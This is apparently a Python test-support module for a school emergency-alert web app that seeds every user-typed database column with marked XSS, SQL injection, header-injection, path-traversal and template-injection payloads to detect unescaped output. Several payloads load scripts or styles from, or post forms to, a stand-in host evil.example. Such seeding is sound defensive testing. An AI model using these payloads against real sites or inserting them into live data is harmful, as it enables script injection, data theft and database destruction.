"""Texts that would become part of a page if anything forgot to escape them, and where to put them.

Every one that opens a tag or an attribute names it `zq7x`; what carries that name was typed.
"""

from __future__ import annotations

import itertools
import json
from typing import Any

from peewee import CharField, TextField

from commons.audit import AuditContent
from commons.database import all_models, transaction
from commons.fields import ChoiceField, PublicIdField, SealedField
from rapidresponse.alerts.models import SiteText

MARK = "zq7x"
# What a template engine would make of its own syntax below.
COUNTED = f"9359{MARK}"
# Out of everything at once, for what is read back only once.
BREAKOUT = f"\"'></title></textarea></select><img {MARK} src=x onerror=alert(1)>"
# What is typed into every form: out of a page, a statement, a header, a text and a path.
TYPED_IN = (
    BREAKOUT,
    "' OR 1=1; DROP TABLE person; --",
    f"a\r\nSet-Cookie: {MARK}=1\r\n\r\n<html>",
    'NEAR(\x00 \u202e% _ \\ " *:^)',
    "../../../../etc/passwd",
    "7" * 5000,
)
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpointerenter")
PAYLOADS: tuple[str, ...] = (
    # Tags that run by themselves.
    f"<script {MARK}>alert(1)</script>",
    f"<script {MARK} src=//evil.example/x.js></script>",
    f"<SCRIPT {MARK}>alert(1)</ScRiPt>",
    f"<script {MARK} type=module>alert(1)</script>",
    f"<script {MARK}/src=data:text/javascript,alert(1)></script>",
    f"<scr<script {MARK}>ipt>alert(1)</scr</script>ipt>",
    f"<img {MARK} src=x onerror=alert(1)>",
    f"<img {MARK} src=//evil.example/i.png>",
    f"<img/{MARK}/src=`x`onerror=alert(1)>",
    f"<IMG {MARK} SRC=x OnErRoR=alert(1)//",
    f"<image {MARK} src=x onerror=alert(1)>",
    f"<body {MARK} onload=alert(1)>",
    f"<iframe {MARK} src=javascript:alert(1)></iframe>",
    f"<iframe {MARK} srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object {MARK} data=javascript:alert(1)></object>",
    f"<embed {MARK} src=//evil.example/x.swf>",
    f"<video {MARK}><source onerror=alert(1)></video>",
    f"<audio {MARK} src=x onerror=alert(1)>",
    f"<details {MARK} open ontoggle=alert(1)>",
    f"<input {MARK} autofocus onfocus=alert(1)>",
    f"<select {MARK} autofocus onfocus=alert(1)>",
    f"<marquee {MARK} onstart=alert(1)>x</marquee>",
    f"<meta {MARK} http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<base {MARK} href=//evil.example/>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
    f"<form {MARK} action=//evil.example/><button>Send</button></form>",
    f"<button {MARK} formaction=javascript:alert(1)>Send</button>",
    f"<a {MARK} href=javascript:alert(1)>press</a>",
    f"<a {MARK} href=' &#1; javascript:alert(1)'>press</a>",
    f"<div {MARK} hx-get=//evil.example/ hx-trigger=load></div>",
    f"<div {MARK} hx-on:htmx:load=alert(1)></div>",
    # SVG and MathML.
    f"<svg {MARK} onload=alert(1)>",
    f"<svg {MARK}><script>alert(1)</script></svg>",
    f"<svg {MARK}><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg {MARK}><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    f"<svg {MARK}><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    f"<math {MARK} href=javascript:alert(1)>x</math>",
    f"<math><mtext><table><mglyph><style><img {MARK} src=x onerror=alert(1)></style>",
    # Out of an attribute, a comment, a title, a text area, a script, a style.
    f"\" {MARK} onmouseover=alert(1) x=\"",
    f"' {MARK} onmouseover=alert(1) x='",
    f"\"><img {MARK} src=x onerror=alert(1)>",
    f"'><img {MARK} src=x onerror=alert(1)>",
    f"x {MARK} onfocus=alert(1) autofocus",
    f"\" autofocus onfocus=alert(1) {MARK} \"",
    f"`><img {MARK} src=x onerror=alert(1)>",
    f"--><img {MARK} src=x onerror=alert(1)>",
    f"</title><img {MARK} src=x onerror=alert(1)>",
    f"</textarea><img {MARK} src=x onerror=alert(1)>",
    f"</option></select><img {MARK} src=x onerror=alert(1)>",
    f"</script><script {MARK}>alert(1)</script>",
    f"</style><img {MARK} src=x onerror=alert(1)>",
    f"</noscript><img {MARK} src=x onerror=alert(1)>",
    f"<noscript><p title=\"</noscript><img {MARK} src=x onerror=alert(1)>\">",
    f"<!--<img {MARK} title=\"--><img {MARK} src=x onerror=alert(1)>\">",
    f"<![CDATA[><img {MARK} src=x onerror=alert(1)>]]>",
    f"]]><img {MARK} src=x onerror=alert(1)>",
    f"\";alert(1)//{MARK}",
    f"'-alert(1)-'{MARK}",
    "\\\"-alert(1)}//",
    # Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    # Templates and styles.
    "{{ 1337*7 }}" + MARK,
    "{% print(1337*7) %}" + MARK,
    "${1337*7}" + MARK,
    "#{1337*7}" + MARK,
    "%(name)s %s {0}",
    f"<style {MARK}>@import '//evil.example/x.css';</style>",
    f"<p {MARK} style=background:url(//evil.example/x)>",
    "x;background:url(//evil.example/x)",
    # Characters that change on the way.
    f"\uff1cimg {MARK} src=x onerror=alert(1)\uff1e",
    f"\u02bc{MARK}\u02ba onfocus=alert(1)",
    f"<\u0131mg {MARK} src=x onerror=alert(1)>",
    f"\u202e<img {MARK} src=x onerror=alert(1)>",
    f"&lt;img {MARK} src=x onerror=alert(1)&gt;",
    f"&#60;img {MARK} src=x onerror=alert(1)&#62;",
    f"%3Cimg {MARK} src=x onerror=alert(1)%3E",
    f"\\u003cimg {MARK} src=x onerror=alert(1)\\u003e",
    f"<img\u00a0{MARK}\u00a0src=x\u00a0onerror=alert(1)>",
    f"<img\x0c{MARK}\x0csrc=x\x0conerror=alert(1)>",
    *(f"<p/{MARK}/{event}=alert(1)>x" for event in _EVENTS),
)  # fmt: skip

# Columns whose words have a form of their own; whatever else is sealed is planted.
FORMED = {
    "account.totp_secret": "a secret of an authenticator",
    "audit_content.content": "JSON, planted in its details by `plant`",
    "contact_method.recipient": "a UUID",
    "contact_method.value": "a number",
    "conversation.answers": "JSON that is never shown",
    "envelope.body": "JSON that is never shown",
    "invite.code": "letters and digits of ours",
    "relay_account.number": "a number",
    "sign_in_request.code": "letters and digits of ours",
    "sign_in_request.number": "two digits of ours",
    "site_text.body": "gaps in braces, planted below them by `plant`",
}
# Columns in the open that somebody typed, or that an imported list says.
TYPED = {
    "district.county", "district.name", "holiday.name", "meeting_point.name",
    "meeting_point.source", "site.city", "site.grades", "site.name", "site.phone", "site.street",
    "site.website", "site.zip_code", "zone.name",
}  # fmt: skip
# Words, codes and hashes of our own in the open.
OWN = {
    "account.freeze_hash", "account.language", "account.password_hash", "account.theme",
    "acknowledgement.via", "after_review.decided_by", "alert.code", "alert.idempotency_key",
    "alert.started_by", "alert.type", "alert_page.language", "alert_page.token_hash",
    "alert_version.audiences", "alert_version.body_hash", "alert_version.idempotency_key",
    "alert_version.note_language", "alert_version.recalled_by", "alert_version.seen_on_site_by",
    "alert_version.sent_by", "alert_version.slots", "approval.body_hash", "approval.code",
    "approval.decided_by", "approval.decided_via", "approval.permission", "attempt.outcome",
    "attempt.reason", "audit_content.actor", "audit_content.subject", "audit_link.chain",
    "audit_link.commitment", "audit_link.hash", "audit_link.kind", "audit_link.previous",
    "bell_time.at", "consent.recorded_by", "consent.withdrawn_by", "conversation.flow",
    "conversation.question", "district.code", "district.state", "envelope.digest",
    "erasure.receipt", "export_request.allowed_by", "export_request.asked_by", "hold.lifted_by",
    "hold.placed_by", "hold.subject", "installation.name", "installation.value", "invite.made_by",
    "join_request.decided_by", "known_device.token_hash", "left_out.reason",
    "membership.granted_by", "message.lease", "message.reason", "message_text.audience",
    "message_text.below", "message_text.language", "person.language", "posture.set_by",
    "proposal.decided_by", "proposal.proposed_by", "rate_bucket.key", "relay_account.reason",
    "reply.handled_by", "return_code.code_hash", "return_code.made_by", "role_watch.role",
    "sign_in_link.token_hash", "sign_in_request.device", "sign_in_request.language",
    "sign_in_request.token_hash", "sign_in_session.device", "sign_in_session.token_hash",
    "site.cds_code", "site.fingerprint", "site.languages", "site.nces_code", "site.region",
    "site.timezone", "site_place.key", "site_text.by", "site_text.key", "site_text.language",
    "text_review.by", "text_review.key", "text_review.language", "text_review.words_hash",
    "timer.kind", "timer.subject", "topic.subject", "trust_record.ended_by",
    "trust_record.recorded_by", "verification.by",
}  # fmt: skip


def columns() -> dict[str, Any]:
    """Return every column that could hold words, by table and name."""
    return {
        f"{model._meta.table_name}.{field.column_name}": field
        for model in all_models()
        for field in model._meta.sorted_fields
        if isinstance(field, SealedField | CharField | TextField)
        and not isinstance(field, ChoiceField | PublicIdField)
    }


def undecided() -> set[str]:
    """Return each column of which nobody has said whether people type into it."""
    open_ones = {name for name, field in columns().items() if not isinstance(field, SealedField)}
    return open_ones - TYPED - OWN - set(FORMED)


def plant() -> None:
    """Write a payload into every column that people type into, of every row."""
    payloads = itertools.cycle(PAYLOADS)
    with transaction():
        for name, field in columns().items():
            sealed = isinstance(field, SealedField)
            if name in FORMED or not (sealed or name in TYPED):
                continue
            for row in list(field.model.select().where(field.is_null(False))):
                text = next(payloads)
                value = field.seal(row.public_id, text) if sealed else text
                field.model.update({field: value}).where(row._pk_expr()).execute()
        _plant_in_details(payloads)
        _plant_below_gaps(payloads)


def _plant_in_details(payloads: Any) -> None:
    for row in list(AuditContent.select()):
        content = json.loads(row.reveal("content"))
        if "reason" in content.get("details", {}):
            content["details"]["reason"] = next(payloads)
            sealed = AuditContent.sealed(row.public_id, content=json.dumps(content))
            AuditContent.update(**sealed).where(AuditContent.id == row.id).execute()


def _plant_below_gaps(payloads: Any) -> None:
    # Words with another brace are never kept: see rapidresponse/alerts/texts/faults.py.
    braceless = (text for text in payloads if not set(text) & set("{}"))
    for row in list(SiteText.select().where(SiteText.body.is_null(False))):
        planted = "\n".join([row.body, *itertools.islice(braceless, 20)])
        SiteText.update(body=planted).where(SiteText.id == row.id).execute()
